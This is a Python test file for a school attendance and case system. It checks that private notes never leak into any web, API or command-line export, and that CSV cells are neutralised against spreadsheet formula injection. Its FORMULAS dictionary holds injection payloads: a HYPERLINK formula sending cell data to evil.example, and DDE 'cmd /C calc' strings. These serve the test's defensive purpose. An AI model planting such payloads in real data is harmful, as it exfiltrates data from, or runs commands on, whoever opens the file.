"""Private notes never leave in an export (DESIGN.md principle 5): one test walks every export.

The same walk checks that no CSV cell opens as a formula in a spreadsheet: names, a
caregiver, a response and an audit entry hold text that starts with =, +, -, @, a tab
or a carriage return, and every cell of every CSV the walk produces must come out
neutralised (stepwise/web/csvfiles.py); numbers stay numbers.

It writes a unique marker into every private note the system holds (a response
activity's notes, recorded through the real form; a referral's decision note), then
produces every export there is and looks for the marker in each file of each:

- `stepwise standings` (CSV and JSON);
- the Ministry export, downloaded from the dashboard and written by `stepwise export ministry`;
- the audit log's CSV export;
- a letter sent on the case, downloaded as its PDF (its text read back with pdftotext);
- the subject access zip, downloaded and written by `stepwise subject-access` (every file);
- the API's exports (standings and the Ministry export's tables, as CSV and as Parquet,
  read back through DuckDB) and its list of response activities, with a school's token.

It keeps itself complete. It fails if
- a URL whose name contains "export" or "download" is not in WEB_EXPORTS,
- a `stepwise` command is neither walked (COMMAND_EXPORTS) nor said not to be an export
  (NOT_EXPORTS), or `stepwise export` gains a kind it does not walk,
- a model gains a notes field (or a notes model appears: case notes, say) that NOTE_FIELDS
  does not fill,
so a new export, or a new kind of note, must join the walk.

Not walked, by design: the referral bundle and the chronology PDF (stepwise/readiness). They
are the case record itself, notes included, made for the service's own staff and for the
prosecutions team or local authority a case is referred to, which NZ's guidance says is given all
the case's information; every download is audited. And `stepwise backup`: a backup is a
whole-database copy for restoring the system, kept under the organisation's control; it
must contain every note or a restore would lose them. It is not an export to a person or
another organisation (docs/privacy.md).
"""

import csv
import io
import json
import subprocess
import zipfile
from collections.abc import Callable
from decimal import Decimal
from io import StringIO

from django.apps import apps
from django.contrib.auth import get_user_model
from django.core.management import call_command, get_commands, load_command_class
from django.test import RequestFactory
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from stepwise.accounts.models import Membership, Organisation
from stepwise.api.services import token_create
from stepwise.audit.services import audit_record
from stepwise.cases.models import LogEntry, ProsecutionReferral, SafetyFlag
from stepwise.cases.services import (
    log_entry_record,
    person_add,
    referral_accept,
    safety_flag_raise,
)
from stepwise.certificates.services import certificate_issue
from stepwise.letters.cases.services import Figures, letter_issue
from stepwise.letters.models import Letter, LetterSender
from stepwise.letters.schools.services import school_letter_issue
from stepwise.readiness.models import Attestation, ReferralStatusChange
from stepwise.readiness.services import attestation_record, referral_status_set
from stepwise.responses.models import ResponseActivity
from stepwise.schools.models import Caregiver, Student
from stepwise.web.csvfiles import FORMULA_STARTS
from tests.conftest import sign_in

MARKER = "NOTE-MARKER-9e4b1d-must-never-be-exported"

# Every private note field, as (app label, model, field): the walk writes MARKER into each.
NOTE_FIELDS = {
    ("responses", "ResponseActivity", "notes"),
    ("referrals", "Referral", "decision_note"),
    ("cases", "LogEntry", "notes"),
    ("cases", "SafetyFlag", "note"),
    ("readiness", "Attestation", "note"),
    ("readiness", "ReferralStatusChange", "note"),
}
# Every web export, by URL name. Each is downloaded in walk_web_exports below.
WEB_EXPORTS = {
    "ministry_export",
    "audit_export",
    "subject_access",
    "api:standings_export",
    "api:ministry_export_table",
    "api:oneroster_export",
    "letter_download",
    "school_letter_download",
    "student_certificate_download",
    "case_certificate_download",
}
# Every `stepwise` command that writes an export: each is run in walk_command_exports below.
COMMAND_EXPORTS = {"standings", "export", "subject-access"}
EXPORT_KINDS = {"ministry"}  # the kinds `stepwise export` offers
# Every other `stepwise` command, and why it is not an export.
NOT_EXPORTS = {
    "school": "adds or lists schools: names and codes only",
    "calendar": "prints a school's term dates and closures",
    "import": "reads files in; prints counts and problems",
    "import-profile": "saves a school's import profile and code mappings; prints them",
    "evaluate": "records threshold events; prints counts",
    "demo": "loads synthetic data",
    "demo-code": "prints a demo user's two-factor code",
    "serve": "runs the web app, whose downloads are in WEB_EXPORTS",
    "backup": "a whole-database copy for restoring, excluded by design (see above)",
    "restore": "reads a backup back in",
    "retention": "purges old records; prints counts and writes tombstones (ids only)",
    "api-token": "makes, lists or revokes API tokens; prints a new token or token names",
    "flush": "Django's flush, emptying the whole database (the audit trail by its purge)",
    "user": "prints a user's two-factor enrolment link, or an invitation link",
    "deploy": "migrates the database and collects static files; prints counts",
    "secret-key": "prints a new random key, no record",
    "org": "adds and lists organisations and services' catchments: names and school ids only",
    "admin": "makes an installation administrator and prints their invitation link",
}
PERIOD = ("2026-10-12", "2026-11-20")  # Term 4 2026 up to the pinned today
# Text a spreadsheet would run as a formula, each where some export carries it.
FORMULAS = {
    "student name": '=HYPERLINK("https://evil.example/?"&A1,"Lee")',  # standings
    "caregiver name": "@SUM(1+1)*cmd|' /C calc'!A0",  # subject access caregivers.csv
    "done by": "-1+1+cmd|' /C calc'!A0",  # subject access response_activities.csv
    "description": "\t=1+1 spoke with the whānau",  # the Ministry export's responses.csv
    "audit detail": "\r=2+5 looked up",  # the audit log, and subject access audit.csv
}


def url_names(patterns=None, namespace: str = "") -> set[str]:
    """Return the name of every URL in the project, with its namespace."""
    names: set[str] = set()
    for entry in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            names |= url_names(entry.url_patterns, inner)
        elif isinstance(entry, URLPattern) and entry.name:
            names.add(namespace + entry.name)
    return names


def note_fields() -> set[tuple[str, str, str]]:
    """Return every text field of our models that looks like a note, or belongs to a notes model."""
    found = set()
    for model in apps.get_models():
        if not model.__module__.startswith("stepwise."):
            continue
        for f in model._meta.concrete_fields:
            text = f.get_internal_type() in {"TextField", "CharField"}
            if text and ("note" in f.name.lower() or "note" in model.__name__.lower()):
                found.add((model._meta.app_label, model.__name__, f.name))
    return found


def zip_files(data: bytes, label: str) -> dict[str, str]:
    """Return each file of a zip as text: a PDF's read back with pdftotext, and its bytes."""
    found = {}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            content = archive.read(name)
            if name.endswith(".pdf"):
                read = subprocess.run(["pdftotext", "-", "-"], input=content, capture_output=True)
                found[f"{label}: {name}"] = read.stdout.decode()
                found[f"{label}: {name} (bytes)"] = content.decode("latin-1")
            else:
                found[f"{label}: {name}"] = content.decode("utf-8")
    return found


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


def parquet_text(data: bytes, folder) -> str:
    """Return a Parquet file's rows as text (its strings may be compressed inside)."""
    import duckdb

    assert data[:4] == b"PAR1", "not a Parquet file"
    path = folder / "export.parquet"
    path.write_bytes(data)
    with duckdb.connect() as db:
        return "\n".join(
            ",".join(map(str, row))
            for row in db.execute(f"SELECT * FROM read_parquet('{path}')").fetchall()
        )


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def formula_cells(text: str) -> list[str]:
    """Return the cells of a CSV file that a spreadsheet would run as a formula."""
    rows = csv.reader(io.StringIO(text, newline=""))
    return [c for row in rows for c in row if c.startswith(FORMULA_STARTS) and not is_number(c)]


def run(*args: str) -> str:
    out = StringIO()
    call_command(*args, stdout=out, stderr=StringIO())
    return out.getvalue()


def test_no_export_contains_a_private_note(
    client, school, aroha, officer, leader, admin, referral, tmp_path
):
    # --- The walk is complete --------------------------------------------------------------
    unwalked = {n for n in url_names() if "export" in n or "download" in n} - WEB_EXPORTS
    assert not unwalked, f"add these exports to the walk (WEB_EXPORTS): {sorted(unwalked)}"
    for name in WEB_EXPORTS:
        assert name in url_names(), f"{name} is in WEB_EXPORTS but no longer a URL"
    ours = {name for name, app in get_commands().items() if app.startswith("stepwise")}
    unclassified = ours - COMMAND_EXPORTS - set(NOT_EXPORTS)
    assert not unclassified, f"walk these commands, or say why they are not exports: {unclassified}"
    export_parser = load_command_class("stepwise.dashboard", "export").create_parser(
        "stepwise", "export"
    )
    kinds = set(export_parser._subparsers._group_actions[0].choices)  # type: ignore[union-attr]
    assert kinds == EXPORT_KINDS, f"walk every kind of `stepwise export`: {kinds}"
    assert note_fields() == NOTE_FIELDS, (
        "a private note field was added or removed: fill it with MARKER below and keep "
        f"NOTE_FIELDS up to date (found {sorted(note_fields())})"
    )

    # --- Every private note holds the marker ------------------------------------------------
    # A response activity, through the real form, as an attendance officer records one.
    event = aroha.threshold_events.get(threshold="amp5")
    description = school.descriptions.filter(response_type="written_communication").first()
    response = sign_in(client, officer).post(
        reverse("response_add", args=[school.code, aroha.national_id]),
        {
            "event": str(event.pk),
            "response_type": "written_communication",
            "description_written_communication": str(description.pk),
            "happened_on_day": "19",
            "happened_on_month": "11",
            "happened_on_year": "2026",
            "done_by": FORMULAS["done by"],
            "notes": f"Whānau told us something private. {MARKER}",
        },
    )
    assert response.status_code == 302, "the response was not recorded"
    # The referral's own response activity carries a note too ("Referred to ..."): mark it.
    ResponseActivity.objects.filter(student=aroha).exclude(notes__contains=MARKER).update(
        notes=f"Referred. {MARKER}"
    )
    # The service takes the referral: its case log and a safety flag hold notes too.
    manager = get_user_model().objects.create_user("walk-manager")
    Membership.objects.create(user=manager, organisation=referral.service, role="service_manager")
    case = referral_accept(referral=referral, by=manager)
    log_entry_record(
        case=case, by=manager, kind="phone", happened_at=timezone.now(), notes=f"Private. {MARKER}"
    )
    safety_flag_raise(case=case, by=manager, kind="other", address="Home", note=f"Flag. {MARKER}")
    # The referral checklist: a person's attestation, and the team's note on a status.
    attestation_record(case=case, by=manager, item_key="crm_spoken", answer="spoken",
                       happened_on=timezone.localdate(), note=f"CRM said. {MARKER}")  # fmt: skip
    team = Organisation.objects.create(name="Walk team", kind=Organisation.Kind.PROSECUTIONS)
    prosecution = ProsecutionReferral.objects.create(
        case=case, checklist="nz_prosecution", team=team, notification=case.reference,
        checklist_snapshot=[], made_by=manager, made_at=timezone.now(),
    )  # fmt: skip
    referral_status_set(referral=prosecution, by=manager, status="under_review",
                        note=f"Team's view. {MARKER}")  # fmt: skip
    # A decision note is written when a service declines; set one on the accepted referral.
    referral.decision_note = f"Declined for reasons of our own. {MARKER}"
    referral.save()
    filled = {
        ("responses", "ResponseActivity", "notes"): ResponseActivity.objects.filter(
            notes__contains=MARKER
        ).count(),
        ("referrals", "Referral", "decision_note"): type(referral)
        .objects.filter(decision_note__contains=MARKER)
        .count(),
        ("cases", "LogEntry", "notes"): LogEntry.objects.filter(notes__contains=MARKER).count(),
        ("cases", "SafetyFlag", "note"): SafetyFlag.objects.filter(note__contains=MARKER).count(),
        ("readiness", "Attestation", "note"): Attestation.objects.filter(
            note__contains=MARKER
        ).count(),
        ("readiness", "ReferralStatusChange", "note"): ReferralStatusChange.objects.filter(
            note__contains=MARKER
        ).count(),
    }
    assert set(filled) == NOTE_FIELDS and all(filled.values()), filled

    # A letter to Aroha's caregiver, sent after the private log entry: it must not carry it.
    LetterSender.objects.create(organisation=referral.service, phone="07 555 0100")
    person_add(case=case, role="caregiver", given_name="Walk", family_name="Parent",
               parental_responsibility=True, address="1 Road")  # fmt: skip
    letter_issue(case=case, letter_key="chronic_absence_1", by=manager,
                 sent_on=timezone.localdate(), method="hand", reason=f"Because. {MARKER}",
                 figures=Figures(days_missed=Decimal(20), days_possible=Decimal(29)),
                 override_reason=f"Overridden. {MARKER}")  # fmt: skip

    # --- Text that a spreadsheet would run --------------------------------------------------
    Student.objects.filter(national_id="100000002").update(family_name=FORMULAS["student name"])
    Caregiver.objects.filter(ref="CG-2").update(given_name=FORMULAS["caregiver name"])
    ResponseActivity.objects.filter(student=aroha, done_by=FORMULAS["done by"]).update(
        description_text=FORMULAS["description"]
    )
    looked_up = RequestFactory().get("/")
    looked_up.user = officer
    audit_record(
        request=looked_up,
        organisation=school.organisation,
        action="view",
        object_type="student",
        object_id=aroha.pk,
        detail=FORMULAS["audit detail"],
    )

    # --- Produce every export ---------------------------------------------------------------
    outputs: dict[str, str] = {}
    witness: dict[str, str] = {}  # each export must hold Aroha's record, or it proves nothing

    def web(name: str, user, get: Callable[[object], object]) -> None:
        client.logout()
        data = body(get(sign_in(client, user)))
        found = (
            zip_files(data, f"web {name}") if data[:2] == b"PK" else {f"web {name}": data.decode()}
        )
        outputs.update(found)
        witness[f"web {name}"] = "".join(found.values())

    web(
        "ministry_export",
        leader,
        lambda c: c.get(  # type: ignore[attr-defined]
            reverse("ministry_export", args=[school.code]), {"from": PERIOD[0], "to": PERIOD[1]}
        ),
    )
    web(
        "audit_export",
        admin,
        lambda c: c.get(reverse("audit_export", args=[school.organisation_id])),  # type: ignore[attr-defined]
    )
    web(
        "subject_access",
        admin,
        lambda c: c.post(reverse("subject_access", args=[school.code, aroha.national_id])),  # type: ignore[attr-defined]
    )
    letter = Letter.objects.filter(case=case).first()
    client.logout()
    pdf = body(sign_in(client, manager).get(reverse("letter_download", args=[case.pk, letter.pk])))
    (tmp_path / "letter.pdf").write_bytes(pdf)
    read = subprocess.run(["pdftotext", str(tmp_path / "letter.pdf"), "-"], capture_output=True)
    outputs["web letter_download"] = witness["web letter_download"] = read.stdout.decode()
    outputs["web letter_download (bytes)"] = pdf.decode("latin-1")
    # The school's own letter about Aroha, its reason kept in the response's private notes.
    LetterSender.objects.create(organisation=school.organisation, phone="07 555 0427")
    school_letter, *_ = school_letter_issue(
        school=school, student=aroha, letter_key="school_notification", by=officer,
        sent_on=timezone.localdate(), method="hand", reason=f"Because. {MARKER}",
        figures=Figures(days_missed=Decimal(20), days_possible=Decimal(29)),
    )  # fmt: skip
    client.logout()
    pdf = body(sign_in(client, officer).get(reverse(
        "school_letter_download", args=[school.code, aroha.national_id, school_letter.pk]
    )))  # fmt: skip
    (tmp_path / "school-letter.pdf").write_bytes(pdf)
    read = subprocess.run(
        ["pdftotext", str(tmp_path / "school-letter.pdf"), "-"], capture_output=True
    )
    outputs["web school_letter_download"] = read.stdout.decode()
    witness["web school_letter_download"] = read.stdout.decode()
    outputs["web school_letter_download (bytes)"] = pdf.decode("latin-1")
    # Aroha's registration certificate, issued after the notes, from the school and the case.
    certificate = certificate_issue(school=school, student=aroha, period="this_year", by=officer,
                                    issued_for=school.organisation)  # fmt: skip
    for name, user, args in (
        ("student_certificate_download", officer, [school.code, aroha.national_id, certificate.pk]),
        ("case_certificate_download", manager, [case.pk, certificate.pk]),
    ):
        client.logout()
        pdf = body(sign_in(client, user).get(reverse(name, args=args)))
        (tmp_path / "certificate.pdf").write_bytes(pdf)
        read = subprocess.run(
            ["pdftotext", str(tmp_path / "certificate.pdf"), "-"], capture_output=True
        )
        outputs[f"web {name}"] = witness[f"web {name}"] = read.stdout.decode()
        outputs[f"web {name} (bytes)"] = pdf.decode("latin-1")
    # The API's exports, with a token of the school; Parquet is read back as text rows.
    _, secret = token_create(organisation=school.organisation, name="Walk", created_by=None)
    token = {"Authorization": f"Bearer {secret}"}
    api_exports = {
        "api:standings_export": [reverse("api:standings_export", args=[school.code, "2026T4"])],
        "api:ministry_export_table": [
            reverse("api:ministry_export_table", args=[school.code, table])
            for table in ("attendance", "responses")
        ],
    }
    for name, urls in api_exports.items():
        texts = []
        for url in urls:
            for fmt in ("csv", "parquet"):
                query = {"format": fmt, "from": PERIOD[0], "to": PERIOD[1], "as_of": PERIOD[1]}
                data = body(client.get(url, query, headers=token))
                text = parquet_text(data, tmp_path) if fmt == "parquet" else data.decode()
                outputs[f"web {name} {url} {fmt}"] = text
                texts.append(text)
        witness[f"web {name}"] = "".join(texts)
    # The OneRoster bundle: a zip of CSV files, read back as their text.
    bundle = body(client.get(reverse("api:oneroster_export", args=[school.code]), headers=token))
    with zipfile.ZipFile(io.BytesIO(bundle)) as z:
        roster = "".join(z.read(n).decode() for n in z.namelist())
    outputs["web api:oneroster_export"] = witness["web api:oneroster_export"] = roster
    responses = reverse("api:responses", args=[school.code])
    outputs["api responses"] = body(client.get(responses, headers=token)).decode()
    witness["api responses"] = outputs["api responses"]
    assert {w for w in witness if w.startswith("web ")} == {f"web {n}" for n in WEB_EXPORTS}

    for fmt in ("csv", "json"):
        text = run("standings", "--school", school.code, "--term", "2026T4", "--format", fmt,
                   "--as-of", PERIOD[1])  # fmt: skip
        if fmt == "json":
            json.loads(text)
        outputs[f"stepwise standings --format {fmt}"] = witness[f"standings {fmt}"] = text
    ministry = tmp_path / "ministry.zip"
    run("export", "ministry", "--school", school.code, "--from", PERIOD[0], "--to", PERIOD[1],
        "--output", str(ministry))  # fmt: skip
    found = zip_files(ministry.read_bytes(), "stepwise export ministry")
    outputs.update(found)
    witness["export ministry"] = "".join(found.values())
    sar = tmp_path / "sar.zip"
    run("subject-access", "--school", school.code, "--student", aroha.national_id,
        "--output", str(sar))  # fmt: skip
    found = zip_files(sar.read_bytes(), "stepwise subject-access")
    outputs.update(found)
    witness["subject-access"] = "".join(found.values())

    # --- The marker is in none of them ------------------------------------------------------
    # The audit log names a student by database id; the other exports by national id.
    holds = {label: aroha.national_id for label in witness}
    recorded = aroha.response_activities.filter(letter__isnull=True).latest("pk")  # by the form
    holds["web audit_export"] = f"response {recorded.pk} recorded"
    holds["web letter_download"] = "Aroha has missed 20 of 29 school days"
    holds["web school_letter_download"] = "Aroha has missed 20 of 29 school days"
    for label, text in witness.items():
        assert holds[label] in text, f"{label} does not hold Aroha's record: a hollow check"
    # The Ministry export does carry the recorded response, just not its notes.
    assert "2026-11-19" in witness["web ministry_export"]
    leaked = sorted(label for label, text in outputs.items() if MARKER in text or "9e4b1d" in text)
    assert not leaked, f"private notes leaked into: {leaked}"
    assert "2026-11-19" in witness["web api:ministry_export_table"]
    # The command's zip, written after the school's letter, carries it as sent (one PDF to
    # each of Aroha's two caregivers), read as text here like every other file.
    sent = [text for label, text in found.items() if label.endswith(".pdf")]
    assert len(sent) == 2 and all("Aroha has missed 20 of 29 school days" in t for t in sent)

    # --- No CSV cell opens as a formula -----------------------------------------------------
    csvs = {
        label: text
        for label, text in outputs.items()
        if label.endswith((".csv", " csv")) or label == "web audit_export"
    }
    # 2 Ministry files and 10 subject access files on the web and from commands, the audit
    # log, the CLI's standings, and the API's standings and two Ministry tables.
    assert len(csvs) == 2 * (2 + 10) + 1 + 1 + 3, "\n".join(sorted(csvs))
    runnable = {label: cells for label, text in csvs.items() if (cells := formula_cells(text))}
    assert not runnable, f"cells a spreadsheet would run as formulas: {runnable}"
    everything = "".join(csvs.values())
    for what, formula in FORMULAS.items():
        assert f"'{formula}" in everything or f"'{formula}".replace('"', '""') in everything, (
            f"no CSV carries the {what}: the check proves nothing about it"
        )
    # Parquet is not a spreadsheet's file: it keeps the text exactly as typed.
    parquet = next(o for o in outputs if o.endswith(" parquet") and "responses" in o)
    assert FORMULAS["description"] in outputs[parquet]

    # Files looked at: 2 + 1 + 11 on the web, 2 + 2 + 11 from commands (READMEs included)
    # and the two letters in the command's zip, 2 + 4 + 1 + 1 from the API (the last the
    # OneRoster bundle), a case letter, a school letter and two certificate downloads (text
    # and bytes of each PDF).
    assert len(outputs) == 49
